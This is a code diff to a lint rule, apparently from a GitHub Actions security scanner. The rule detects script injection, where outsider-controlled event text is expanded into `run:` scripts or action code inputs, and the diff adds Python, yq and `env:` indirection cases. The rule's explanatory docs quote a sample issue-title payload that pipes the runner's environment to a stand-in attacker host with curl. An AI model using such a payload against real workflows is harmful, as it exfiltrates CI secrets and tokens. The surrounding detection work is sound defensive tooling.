@@ -2,7 +2,7 @@ import { defineFileRule } from '../../engine/file-rule';
 import { safeFix, type Fix, type TextEdit } from '../../engine/fixer';
 import { addToMapping, fillEmptyPair, yamlScalar } from '../../workflows/edits';
 import { GITHUB_SCRIPT, isAttackerControlled } from '../../workflows/knowledge';
-import { expressionsIn, type Expression, type Step, type Workflow, readableWorkflow } from '../../workflows/workflow';
+import { expressionsIn, type Expression, type Job, type Step, type Workflow, readableWorkflow } from '../../workflows/workflow';
 import { asScalar, get, scalarLines, type YamlScalar } from '../../workflows/yaml';
 
 export default defineFileRule({
@@ -17,7 +17,7 @@ export default defineFileRule({
     fixable: true,
     fixApplicability: ['safe'],
     docs: {
-      what: 'Finds `${{ … }}` expressions that expand text an outsider controls (issue and pull request titles and bodies, comment bodies, branch names, commit messages) inside a `run:` script or the `script:` of `actions/github-script`.',
+      what: 'Finds `${{ … }}` expressions that expand text an outsider controls (issue and pull request titles and bodies, comment bodies, branch names, commit messages) inside code: a `run:` script (any shell, `pwsh` included), the `script:` of `actions/github-script` or `jannekem/run-python-script-action`, the `cmd:` of `mikefarah/yq`. Also through an `env:` indirection: `${{ env.TITLE }}` in such code, where the step\'s, job\'s or workflow\'s `env:` sets `TITLE` from outsider text, expands that text just the same (reading `$TITLE` from the environment does not).',
       why: 'GitHub substitutes the expression into the script\'s source before the shell (or Node) runs it, so the text is code, not data. An issue titled `"; curl -d "$(env)" https://evil.example #` runs that command on your runner, with the job\'s token and secrets. Passing the value through an environment variable keeps it data.',
       example: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New issue: ${{ github.event.issue.title }}"',
       safe: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New issue: ${ISSUE_TITLE}"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}',
@@ -42,14 +42,17 @@ export default defineFileRule({
         const script = scriptOf(step);
         if (!script) continue;
         for (const expression of expressionsIn(script.scalar, text)) {
-          const tainted = expression.contexts.find(isAttackerControlled);
+          const tainted = expression.contexts.find(isAttackerControlled) ?? taintedThroughEnv(expression, step, job, workflow, text);
           if (!tainted) continue;
-          const where = script.language === 'js' ? '`actions/github-script` code' : 'a `run:` script';
-          const variable = variableName(tainted);
+          const where = script.where;
+          const throughEnv = tainted.startsWith('env.');
+          const variable = throughEnv ? tainted.slice(4) : variableName(tainted);
           const use = USE[script.language](variable);
           context.report(expression.start, expression.end, {
-            message: `\`${tainted}\` is text an outsider chooses, and \`${expression.text}\` pastes it into ${where} before it runs: a crafted title or branch name becomes commands run with this job's token and secrets. Pass it through the step's \`env:\` (\`${variable}: ${expression.text}\`) and use ${use} instead.`,
-            fix: () => moveToEnv(text, workflow, step, script, expression, variable),
+            message: throughEnv
+              ? `\`${expression.text}\` pastes \`${variable}\`, which \`env:\` sets from text an outsider chooses, into ${where} before it runs: it becomes code run with this job's token and secrets. Read the variable instead: ${use}.`
+              : `\`${tainted}\` is text an outsider chooses, and \`${expression.text}\` pastes it into ${where} before it runs: a crafted title or branch name becomes commands run with this job's token and secrets. Pass it through the step's \`env:\` (\`${variable}: ${expression.text}\`) and use ${use} instead.`,
+            fix: () => (tainted.startsWith('env.') ? [] : moveToEnv(text, workflow, step, script, expression, variable)),
           });
         }
       }
@@ -60,6 +63,7 @@ export default defineFileRule({
 /** How each script language reads an environment variable, for the message. */
 const USE: Record<Script['language'], (variable: string) => string> = {
   sh: (variable) => `"$${variable}"`,
+  python: (variable) => `os.environ["${variable}"]`,
   pwsh: (variable) => `$env:${variable}`,
   cmd: (variable) => `%${variable}%`,
   js: (variable) => `process.env.${variable}`,
@@ -68,18 +72,46 @@ const USE: Record<Script['language'], (variable: string) => string> = {
 
 interface Script {
   scalar: YamlScalar;
-  language: 'sh' | 'pwsh' | 'cmd' | 'js' | 'other';
+  language: 'sh' | 'pwsh' | 'cmd' | 'js' | 'python' | 'other';
+  /** For the message: "a `run:` script". */
+  where: string;
 }
+
+/** Actions whose input is code they run: the input's name, its language. */
+const CODE_INPUTS: Readonly<Record<string, { input: string; language: Script['language'] }>> = {
+  [GITHUB_SCRIPT]: { input: 'script', language: 'js' },
+  'jannekem/run-python-script-action': { input: 'script', language: 'python' },
+  'mikefarah/yq': { input: 'cmd', language: 'sh' },
+};
 
 function scriptOf(step: Step): Script | undefined {
   if (step.run) {
     const shell = step.shell.split(/\s+/)[0].toLowerCase();
-    const language = ['bash', 'sh', 'zsh'].includes(shell) ? 'sh' : shell === 'pwsh' || shell === 'powershell' ? 'pwsh' : shell === 'cmd' ? 'cmd' : 'other';
-    return { scalar: step.run, language };
+    const language = ['bash', 'sh', 'zsh'].includes(shell) ? 'sh' : shell === 'pwsh' || shell === 'powershell' ? 'pwsh' : shell === 'cmd' ? 'cmd' : shell === 'python' ? 'python' : 'other';
+    return { scalar: step.run, language, where: 'a `run:` script' };
   }
-  if (step.uses?.repository === GITHUB_SCRIPT) {
-    const script = asScalar(get(step.with, 'script'));
-    if (script) return { scalar: script, language: 'js' };
+  const sink = step.uses ? CODE_INPUTS[step.uses.repository] : undefined;
+  const code = sink ? asScalar(get(step.with, sink.input)) : undefined;
+  if (sink && code) return { scalar: code, language: sink.language, where: `the \`${sink.input}:\` code of \`${step.uses!.repository}\`` };
+  return undefined;
+}
+
+/**
+ * `${{ env.NAME }}` where the nearest `env:` that sets NAME (the step's, the job's, then the
+ * workflow's) sets it from outsider text: the expression expands that text into the code.
+ * Returns `env.NAME` for the message.
+ */
+function taintedThroughEnv(expression: Expression, step: Step, job: Job, workflow: Workflow, text: string): string | undefined {
+  for (const path of expression.contexts) {
+    const name = /^env\.([\w-]+)$/.exec(path)?.[1];
+    if (!name) continue;
+    for (const env of [step.env, job.env, workflow.env]) {
+      const pair = env?.pairs.find((p) => p.key.trim().toLowerCase() === name);
+      const value = asScalar(pair?.value);
+      if (!pair) continue;
+      if (value && expressionsIn(value, text).some((e) => e.contexts.some(isAttackerControlled))) return `env.${pair.key.trim()}`;
+      break;
+    }
   }
   return undefined;
 }
@@ -92,7 +124,7 @@ export function variableName(path: string): string {
 
 /** Moves the expression into the step's `env:` and reads the variable wherever the script expanded it. */
 function moveToEnv(text: string, workflow: Workflow, step: Step, script: Script, expression: Expression, wanted: string): Fix[] {
-  if (script.language === 'cmd' || script.language === 'other') return [];
+  if (script.language === 'cmd' || script.language === 'other' || script.language === 'python') return [];
   const existing = step.env?.pairs.find((pair) => asScalar(pair.value)?.value.trim() === expression.text);
   let variable = existing?.key ?? wanted;
   for (let n = 2; !existing && step.env?.pairs.some((pair) => pair.key === variable); n++) variable = `${wanted}_${n}`;
